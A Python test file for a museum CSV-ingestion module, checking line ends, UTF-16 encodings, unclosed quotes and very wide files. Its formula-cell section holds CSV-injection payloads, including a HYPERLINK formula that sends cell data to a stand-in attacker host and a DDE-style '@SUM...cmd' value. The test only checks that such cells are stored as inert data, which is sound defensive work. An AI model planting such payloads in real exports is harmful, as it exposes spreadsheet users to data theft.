"""CSV drops as collection systems really export them: classic Mac line ends, UTF-16 "Unicode
Text", unclosed quotes, cells that look like formulas, and very wide files. No services."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from heritage.producers import csv_drop
from heritage.producers.csv_drop import (
    BadCsvRow,
    CsvColumnMapping,
    CsvRow,
    csv_record_id,
    map_csv_row,
    read_csv_rows,
)
from heritage.record_model import SourceRecord, envelope_for
from heritage.source_rejections import SourceRejection


def read(path: Path, **options: str) -> list[CsvRow | BadCsvRow]:
    return list(read_csv_rows(path, CsvColumnMapping(), **options))


def good(rows: list[CsvRow | BadCsvRow]) -> list[tuple[int, str, dict[str, str]]]:
    return [(r.line, r.row_id, r.cells) for r in rows if isinstance(r, CsvRow)]


def bad(rows: list[CsvRow | BadCsvRow]) -> list[BadCsvRow]:
    return [r for r in rows if isinstance(r, BadCsvRow)]


def test_the_rejection_of_an_unreadable_export_is_a_source_rejection() -> None:
    assert issubclass(csv_drop.CsvDropError, SourceRejection)


# --- line ends -------------------------------------------------------------------------

# A FileMaker export from a classic Mac OS: every line ends in CR alone, and a
# description keeps its own CR line break inside quotes.
CLASSIC_MAC = (
    b"id,title,date,description\r"
    b"FM-001,Nachtwacht,1642,Oil on canvas\r"
    b'FM-002,Melkmeisje,1660,"Oil on canvas.\rBought 1908."\r'
    b"FM-003,Kaart,1650\r"
    b"FM-004,Stilleven,1700,Panel\r"
)


def test_classic_mac_line_ends_are_rows_with_their_own_lines(tmp_path: Path) -> None:
    path = tmp_path / "filemaker.csv"
    path.write_bytes(CLASSIC_MAC)
    rows = read(path)
    assert [(line, row_id) for line, row_id, _ in good(rows)] == [
        (2, "FM-001"),
        (3, "FM-002"),
        (6, "FM-004"),
    ]
    assert good(rows)[1][2]["description"] == "Oil on canvas.\rBought 1908."
    assert [r.raw_bytes for r in rows] == [37, 53, 18, 28]
    (short,) = bad(rows)
    assert (short.line, short.row_id, short.raw) == (5, "FM-003", "FM-003,Kaart,1650\r")
    assert short.reason.startswith("3 cells where the header has 4 columns")


def test_mixed_line_ends_in_one_file_keep_lines_and_bytes(tmp_path: Path) -> None:
    path = tmp_path / "merged.csv"
    path.write_bytes(
        b'id;title\r\n1;crlf\r\n2;cr\r3;lf\n4;"quoted\r\nwith crlf"\r\r5;last, no line end'
    )
    rows = read(path)
    assert good(rows) == [
        (2, "1", {"id": "1", "title": "crlf"}),
        (3, "2", {"id": "2", "title": "cr"}),
        (4, "3", {"id": "3", "title": "lf"}),
        (5, "4", {"id": "4", "title": "quoted\r\nwith crlf"}),
        (8, "5", {"id": "5", "title": "last, no line end"}),
    ]
    assert [r.raw_bytes for r in rows] == [8, 5, 5, 22, 19]


@pytest.mark.parametrize("chunk_size", [1, 2, 3, 5, 64])
def test_line_ends_split_across_read_chunks_read_the_same(
    tmp_path: Path, chunk_size: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "filemaker.csv"
    path.write_bytes(CLASSIC_MAC.replace(b"\r", b"\r\n", 2))
    expected = read(path)
    monkeypatch.setattr(csv_drop, "READ_CHUNK_BYTES", chunk_size)
    assert read(path) == expected


# --- byte-order marks and UTF-16 --------------------------------------------------------

UNICODE_TEXT = (
    "id\ttitle\tcreator\r\n"
    "SK-A-1\tCafé de la Paix\tÉdouard Manet\r\n"
    "SK-A-2\t東海道五十三次\t歌川広重\r\n"
    "SK-A-3\tŁódź 🏛\r\n"
    'SK-A-4\t"Zwei\r\nZeilen"\tKünstler unbekannt\r\n'
)


def expected_unicode_text_rows() -> list[tuple[int, str, dict[str, str]]]:
    return [
        (2, "SK-A-1", {"id": "SK-A-1", "title": "Café de la Paix", "creator": "Édouard Manet"}),
        (3, "SK-A-2", {"id": "SK-A-2", "title": "東海道五十三次", "creator": "歌川広重"}),
        (5, "SK-A-4", {"id": "SK-A-4", "title": "Zwei\r\nZeilen", "creator": "Künstler unbekannt"}),
    ]


@pytest.mark.parametrize(
    ("bom", "codec"),
    [(b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be"), (b"\xef\xbb\xbf", "utf-8")],
)
def test_a_byte_order_mark_names_the_encoding(tmp_path: Path, bom: bytes, codec: str) -> None:
    path = tmp_path / "unicode-text.txt"
    path.write_bytes(bom + UNICODE_TEXT.encode(codec))
    rows = read(path)
    assert good(rows) == expected_unicode_text_rows()
    (short,) = bad(rows)
    assert (short.line, short.row_id) == (4, "SK-A-3")
    assert short.raw == "SK-A-3\tŁódź 🏛\r\n"
    exact = "SK-A-3\tŁódź 🏛\r\n".encode(codec)
    assert short.raw_bytes == len(exact)
    if codec != "utf-8":
        assert short.raw_base64 == base64.b64encode(exact).decode("ascii")
    assert (
        sum(r.raw_bytes for r in rows) + len(bom) + len("id\ttitle\tcreator\r\n".encode(codec))
        == path.stat().st_size
    )


@pytest.mark.parametrize(
    ("content", "encoding"),
    [
        (b"\xff\xfe" + UNICODE_TEXT.encode("utf-16-le"), "utf-16"),
        (UNICODE_TEXT.encode("utf-16-le"), "utf-16"),
        (UNICODE_TEXT.encode("utf-16-be"), "utf-16"),
        (UNICODE_TEXT.encode("utf-16-be"), "utf-16-be"),
        (b"\xff\xfe" + UNICODE_TEXT.encode("utf-16-le"), "cp1252"),
    ],
)
def test_a_declared_utf16_encoding_reads_with_or_without_a_mark(
    tmp_path: Path, content: bytes, encoding: str
) -> None:
    path = tmp_path / "unicode-text.txt"
    path.write_bytes(content)
    assert good(read(path, encoding=encoding)) == expected_unicode_text_rows()


def test_utf16_streams_across_chunks_and_reports_broken_code_units(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "unicode-text.txt"
    lone_surrogate = (
        "SK-A-9\tbroken\t".encode("utf-16-le") + b"\x00\xd8" + "\r\n".encode("utf-16-le")
    )
    path.write_bytes(b"\xff\xfe" + UNICODE_TEXT.encode("utf-16-le") + lone_surrogate)
    monkeypatch.setattr(csv_drop, "READ_CHUNK_BYTES", 3)
    rows = read(path)
    assert good(rows) == expected_unicode_text_rows()
    broken = bad(rows)[-1]
    assert (broken.line, broken.row_id) == (7, "SK-A-9")
    assert broken.reason.startswith("bytes that are not utf-16-le")
    assert broken.raw_base64 == base64.b64encode(lone_surrogate).decode("ascii")
    assert "\\x00\\xd8" in broken.raw


def test_utf16_without_a_mark_read_as_utf8_says_how_to_declare_it(tmp_path: Path) -> None:
    path = tmp_path / "unicode-text.txt"
    path.write_bytes(UNICODE_TEXT.encode("utf-16-le"))
    with pytest.raises(csv_drop.CsvDropError, match="encoding='utf-16'"):
        read(path)


# --- unclosed quotes ---------------------------------------------------------------------


def test_an_unclosed_quote_is_reported_and_the_rows_after_it_are_read(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes(
        b"id,title,date\n"
        b'1,"Portrait of a man,1650\n'
        b"2,Het melkmeisje,1660\n"
        b'3,"Brief, met zegel",1702\n'
        b"4,Stilleven,1700\n"
    )
    rows = read(path)
    assert [(line, row_id) for line, row_id, _ in good(rows)] == [(3, "2"), (4, "3"), (5, "4")]
    (opened,) = bad(rows)
    assert (opened.line, opened.row_id) == (2, "1")
    assert opened.raw == '1,"Portrait of a man,1650\n'
    assert "quote opened at line 2" in opened.reason
    assert "swallowed 2 lines (3-4)" in opened.reason


def test_an_unclosed_quote_running_to_the_end_of_the_file(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes(
        b"id;title;date\r\n"
        b"1;Nachtwacht;1642\r\n"
        b'2;"Melkmeisje;1660\r\n'
        b"3;Kaart;1650\r\n"
        b"4;Stilleven;1700\r\n"
    )
    rows = read(path)
    assert [(line, row_id) for line, row_id, _ in good(rows)] == [(2, "1"), (4, "3"), (5, "4")]
    (opened,) = bad(rows)
    assert (opened.line, opened.row_id) == (3, "2")
    assert "quote opened at line 3" in opened.reason
    assert "swallowed 2 lines (4-5)" in opened.reason


def test_an_unclosed_quote_never_merges_rows_silently(tmp_path: Path) -> None:
    """The quote closes at an inch mark three rows on, in the same column, so the merged
    row even has the right number of cells."""
    path = tmp_path / "export.csv"
    path.write_bytes(
        b"id,title,date,width\n"
        b'1,"Portrait of a man,1650,80\n'
        b"2,Het melkmeisje,1660,41\n"
        b'3,Ruler 12",1700,12\n'
        b"4,Stilleven,1700,60\n"
    )
    rows = read(path)
    assert [(line, row_id) for line, row_id, _ in good(rows)] == [(3, "2"), (4, "3"), (5, "4")]
    assert good(rows)[1][2]["title"] == 'Ruler 12"'
    (opened,) = bad(rows)
    assert (opened.line, opened.row_id) == (2, "1")
    assert "swallowed 2 lines (3-4)" in opened.reason


@pytest.mark.parametrize(
    "content",
    [
        b"id,title,description,date\n"
        b'1,Nachtwacht,"Oil on canvas.\nSigned lower left, dated 1642.\n'
        b'Bought 1808, Amsterdam",1642\n'
        b"2,Melkmeisje,,1660\n",
        b"id,title,date,description\r"
        b'1,Nachtwacht,1642,"Oil on canvas.\rSigned, dated 1642.\r"\r'
        b"2,Melkmeisje,1660,\r",
        b"id,title,date,description\n"
        b'1,Nachtwacht,1642,"Provenance:\n""Bought 1808"", Amsterdam\n\nGift 1950"\n'
        b"2,Melkmeisje,1660,\n",
    ],
)
def test_multi_line_descriptions_stay_one_cell(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes(content)
    rows = read(path)
    assert bad(rows) == []
    assert [row_id for _, row_id, _ in good(rows)] == ["1", "2"]
    assert good(rows)[1][0] == content.count(b"\n") + content.count(b"\r") - (
        content.count(b"\r\n")
    )


# --- cells that look like formulas ------------------------------------------------------

FORMULA_CELLS = {
    "title": '=HYPERLINK("https://evil.example/?d="&A1,"Nachtwacht")',
    "creator": "+49 30 266424242",
    "date": "-5",
    "rights": "@SUM(1+1)*cmd",
    "description": "\tindented",
    "data_provider": "\rMuseum",
}


def test_formula_like_cells_stay_data_exactly_as_received(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    header = "id," + ",".join(FORMULA_CELLS)
    cells = ",".join('"' + v.replace('"', '""') + '"' for v in FORMULA_CELLS.values())
    path.write_bytes(f"{header}\r\nX-1,{cells}\r\n".encode())
    (row,) = read(path)
    assert isinstance(row, CsvRow)
    assert row.cells == {"id": "X-1", **FORMULA_CELLS}
    record = map_csv_row(row.cells, CsvColumnMapping())
    assert record["title"] == [FORMULA_CELLS["title"]]
    assert record["dcCreator"] == [FORMULA_CELLS["creator"]]
    assert record["dcDate"] == [FORMULA_CELLS["date"]]
    assert record["rights"] == [FORMULA_CELLS["rights"]]
    item = SourceRecord(csv_record_id("rijks", row.row_id), row.cells, record=record)
    envelope = json.loads(envelope_for("csv", item, "test", "2026-01-01T00:00:00Z").to_json())
    assert envelope["payload"] == {"id": "X-1", **FORMULA_CELLS}
    assert envelope["record"]["title"] == [FORMULA_CELLS["title"]]


# --- very wide files ---------------------------------------------------------------------


def test_a_header_of_ten_thousand_columns_keeps_every_cell(tmp_path: Path) -> None:
    path = tmp_path / "wide.csv"
    columns = 10_000
    header = ",".join(["id", *(f"field_{i}" for i in range(columns))])
    row = ",".join(["1", *(str(i) for i in range(columns))])
    path.write_text(f"{header}\n{row}\n{row.replace('1', '2', 1)}\n", encoding="utf-8")
    rows = read(path)
    expected = {"id": "1", **{f"field_{i}": str(i) for i in range(columns)}}
    assert good(rows) == [(2, "1", expected), (3, "2", {**expected, "id": "2"})]
